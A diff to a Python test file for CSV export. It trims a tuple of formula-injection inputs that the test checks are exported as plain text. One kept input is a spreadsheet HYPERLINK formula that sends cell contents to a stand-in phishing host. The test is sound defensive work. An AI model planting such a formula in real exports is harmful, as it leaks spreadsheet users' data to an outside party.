@@ -123,7 +123,9 @@ def test_csv_memory_does_not_grow_with_the_row_count(db, monkeypatch):
     assert large < small * 2, (small, large)
 
 
-FORMULAS = ("=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", '=HYPERLINK("http://phish.example/?d="&A1,"詳細")')
+# TAB and CR cannot be typed into a company name any more (services.fields refuses control
+# characters); tests/unit/test_exports.py covers those two starts of a cell.
+FORMULAS = ("=1+1", "+1", "-1", "@SUM(1)", '=HYPERLINK("http://phish.example/?d="&A1,"詳細")')
 
 
 def test_csv_cells_that_start_a_formula_are_exported_as_text(db):
